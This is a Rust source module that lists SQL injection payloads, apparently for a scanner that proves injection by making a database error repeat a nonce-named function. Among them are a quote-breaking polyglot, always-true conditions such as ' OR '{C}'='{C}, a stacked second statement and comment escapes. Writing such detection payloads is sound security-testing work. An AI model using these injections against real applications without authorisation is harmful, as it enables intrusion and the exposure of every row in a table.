//! Payloads for SQL statements.
//!
//! Each calls a function named by the nonce, or compares the nonce with itself. No database has
//! such a function: its error repeats the name, which proves that the name was read as SQL.

use super::{Effect, Payload, PayloadClass};

const fn sql(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::Sql, id, template, Effect::Query, why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    sql(
        "sql-polyglot",
        "(SELECT {C}())/*'||(SELECT {C}())||'\"||(SELECT {C}())||\"*/",
        "an expression bare, in single and in double quotes; elsewhere its parts are a comment or strings",
    ),
    sql("sql-single-quotes-or", "' OR '{C}'='{C}", "leaves single quotes and finds every row"),
    sql(
        "sql-identifier",
        "{C}` FROM (SELECT {C}() AS {C}) AS a--",
        "leaves the backticks around the name of a column",
    ),
    sql(
        "sql-newline",
        "\nORDER BY {C}()--",
        "ends a line comment; an order fits behind any query, whatever its columns",
    ),
    sql("sql-comment", "*/||{C}()/*", "leaves a comment"),
    sql("sql-stacked", "';SELECT {C}();--", "a second statement, where the driver runs several"),
    sql("sql-parenthesis", "') OR {C}()--", "leaves single quotes within a parenthesis"),
    sql("sql-single-quotes", "'||{C}()||'", "leaves single quotes; short, without blanks"),
    sql("sql-double-quotes", "\"||{C}()||\"", "leaves double quotes; short, without blanks"),
    sql("sql-number", "{C}()", "any place where a number may stand; without quotes and blanks"),
    sql("sql-number-or", "0 OR '{C}'='{C}'", "a condition on a number finds every row"),
];

/// The form that a person understands best.
pub(super) const CANONICAL: &Payload = &PAYLOADS[1];
